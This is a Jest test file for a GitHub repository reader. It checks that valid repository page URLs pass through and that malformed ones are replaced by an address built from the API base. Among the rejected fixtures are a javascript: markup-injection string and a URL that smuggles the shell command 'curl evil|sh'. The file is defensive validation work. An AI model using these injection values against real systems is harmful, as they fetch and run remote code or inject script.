// What the answer about the data repository is taken for.
import { expect, test } from '@jest/globals'
import type { Client } from '../../src/github/client.ts'
import { readRepository } from '../../src/github/repository.ts'

async function pageOf(sent: string, baseUrl = 'https://api.github.com'): Promise<string> {
  const data = { default_branch: 'main', private: true, html_url: sent }
  const request = Object.assign(() => Promise.resolve({ status: 200, data }), {
    endpoint: { DEFAULTS: { baseUrl } },
  })
  const client = { request } as unknown as Client
  const name = { owner: 'acme', repo: 'archive' }
  return (await readRepository(client, name, 'copilot-metrics')).html_url
}

test.each([
  'https://github.com/acme/archive',
  'https://initech.ghe.com/acme/archive',
  'https://ghes.example.com:8443/Acme/.github',
])('%s is the page of a repository', async (page) => expect(await pageOf(page)).toBe(page))

test.each([
  'javascript:alert(1)//)<img src=x>\n```\n<b>out</b>',
  "https://github.com/acme/archive';curl evil|sh;'",
  'https://github.com/acme/archive\n',
  'https://user:secret@github.com/acme/archive',
  'https://github.com/acme/archive?token=1#top',
  'http://github.com/acme/archive',
  'https://github.com/acme',
  'https://github.com/acme/archive/more',
  '',
])('%j is none: the page is named by the address of the API', async (sent) => {
  expect(await pageOf(sent)).toBe('https://github.com/acme/archive')
  expect(await pageOf(sent, 'https://api.initech.ghe.com')).toBe('https://initech.ghe.com/acme/archive')
  expect(await pageOf(sent, 'https://ghes.example.com/api/v3')).toBe('https://ghes.example.com/acme/archive')
})
